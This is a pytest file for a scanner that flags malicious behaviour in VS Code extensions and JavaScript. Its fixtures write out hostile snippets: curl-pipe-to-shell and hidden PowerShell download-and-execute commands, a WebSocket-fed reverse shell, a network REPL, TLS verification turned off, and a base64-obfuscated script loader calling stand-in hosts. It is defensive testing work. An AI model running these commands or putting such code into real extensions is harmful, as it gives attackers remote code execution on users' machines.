"""What an extension asks its editor to do, and ways by which JavaScript hands on its input, its environment and its lists."""

import json

import pytest
from source_lab import ids, look, package

from beartrap.model.coverage import Gap
from beartrap.vet.behaviour import When
from beartrap.vet.facts import PackageFacts

START = 'const vscode = require("vscode");\nexports.activate = () => {\n'


@pytest.mark.parametrize(
    ("code", "kind", "near"),
    [
        (
            'const to = vscode.Uri.joinPath(folder, "peer.vsix"); fetch("https://peer.invalid/p").then((r) => r.arrayBuffer()).then((b) => vscode.workspace.fs.writeFile(to, b)).then(() => vscode.commands.executeCommand("workbench.extensions.installExtension", to));',
            "chain.network-to-process",
            'const to = vscode.Uri.joinPath(folder, "peer.vsix"); fetch("https://peer.invalid/p").then((r) => r.arrayBuffer()).then((b) => vscode.workspace.fs.writeFile(to, b)).then(() => vscode.commands.executeCommand("vscode.open", to));',
        ),
        (
            'vscode.commands.executeCommand("workbench.action.terminal.sendSequence", { text: "curl -s https://a.invalid/x | sh\\n" });',
            "process.piped",
            'vscode.commands.executeCommand("workbench.action.terminal.sendSequence", { text: "make test\\n" });',
        ),
        (
            'vscode.workspace.getConfiguration("mcp").update("servers", { a: { command: "npx", args: ["-y", "--registry=https://npm.a.invalid", "a"] } }, true);',
            "package.foreign",
            'vscode.workspace.getConfiguration("mcp").update("servers", { a: { command: "npx", args: ["-y", "a"] } }, true);',
        ),
        (
            'vscode.window.createWebviewPanel("a", "b", 1, { enableScripts: true }).webview.html = `<script src="https://help.invalid/new.js"></script>`;',
            "chain.network-to-code",
            'vscode.window.createWebviewPanel("a", "b", 1, { enableScripts: true }).webview.html = `<script src="${own}"></script>`;',
        ),
    ],
)
def test_what_an_editor_is_asked_to_do_is_done_by_the_extension(code: str, kind: str, near: str) -> None:
    assert kind in ids("a.js", f"{START}{code}\n}};\n")
    assert kind not in ids("a.js", f"{START}{near}\n}};\n")


@pytest.mark.parametrize(
    ("default", "hit"), [('powershell -w hidden -c "iwr https://i.invalid/i.ps1 | iex"', True), ("lens-indexer", False)]
)
def test_a_setting_is_what_the_manifest_gives_where_nobody_has_set_it(default: str, hit: bool) -> None:
    settings = {"lens.indexer": {"type": "string", "default": default}}
    manifest = {
        "name": "lens",
        "version": "1.0.0",
        "main": "./out/extension.js",
        "engines": {"vscode": "^1.80.0"},
        "contributes": {"configuration": {"properties": settings}},
    }
    run = 'const run = vscode.workspace.getConfiguration("lens").get("indexer");\nvscode.window.createTerminal({ hideFromUser: true }).sendText(run);'
    files: dict[str, str | bytes] = {
        "extension/package.json": json.dumps(manifest),
        "extension/out/extension.js": f'const helper = require("./helper");\n{START}{run}\n}};\n',
        "extension/out/helper.js": "exports.a = 1;\n",
    }
    facts = PackageFacts("vscode", runs={"extension/out/extension.js": When.START})
    assert any(one.id == "process.piped" for one in package(files, facts)) == hit


def test_settings_that_nest_too_deeply_are_told() -> None:
    """A near miss nests as deeply and has nothing below."""
    code = 'vscode.workspace.getConfiguration("mcp").update("servers", %s, true);'
    deep = code % ("{ a: " * 6 + '{ command: "npx" }' + " }" * 6)
    assert any("more than 4 deep" in one.why for one in look("a.js", f"{START}{deep}\n}};\n") if isinstance(one, Gap))
    flat = code % ("{ a: " * 4 + "1" + " }" * 4)
    assert not any(isinstance(one, Gap) for one in look("a.js", f"{START}{flat}\n}};\n"))


@pytest.mark.parametrize("manifest", ["{", "[]", '{"contributes": {"configuration": [3, {"properties": {"a.b": 4}}]}}'])
def test_a_manifest_that_is_broken_sets_nothing(manifest: str) -> None:
    files: dict[str, str | bytes] = {
        "extension/package.json": manifest,
        "extension/out/extension.js": f'const helper = require("./helper");\n{START}eval(vscode.workspace.getConfiguration("a").get("b"))\n}};\n',
        "extension/out/helper.js": "exports.a = 1;\n",
    }
    assert package(files, PackageFacts("vscode", runs={"extension/out/extension.js": When.START})) is not None


@pytest.mark.parametrize(
    ("code", "kind", "near"),
    [
        (
            "require('net').createServer((s) => { require('repl').start({ input: s, output: s }); }).listen(51);",
            "chain.network-to-code",
            "require('repl').start({ prompt: '> ' });",
        ),
        (
            "Object.assign(process.env, Object.fromEntries([[['NODE', 'TLS', 'REJECT', 'UNAUTHORIZED'].join('_'), '0']]));",
            "weakened.trust",
            "Object.assign(process.env, Object.fromEntries([['NODE_ENV', '0']]));",
        ),
        (
            "const w = new WebSocket('wss://x.invalid/'); const p = require('child_process').spawn(process.env.SHELL || process.env.ComSpec, []); w.onmessage = ({ data }) => p.stdin.write(data);",
            "chain.network-to-code",
            "const w = new WebSocket('wss://x.invalid/'); const p = require('child_process').spawn(process.env.PAGER || 'less', []); w.onmessage = ({ data }) => p.stdin.write(data);",
        ),
        (
            "const s = document.createElement('script'); s.src = ['Ly9jZG4u', 'YS5pbnZhbGlkL3AuanM='].map(atob).join(''); document.head.appendChild(s);",
            "hidden.act",
            "const s = document.createElement('script'); s.src = ['//cdn.', 'a.invalid/p.js'].map(String).join(''); document.head.appendChild(s);",
        ),
    ],
)
def test_ways_by_which_javascript_hands_on_what_it_has(code: str, kind: str, near: str) -> None:
    assert kind in ids("a.js", code)
    assert kind not in ids("a.js", near)
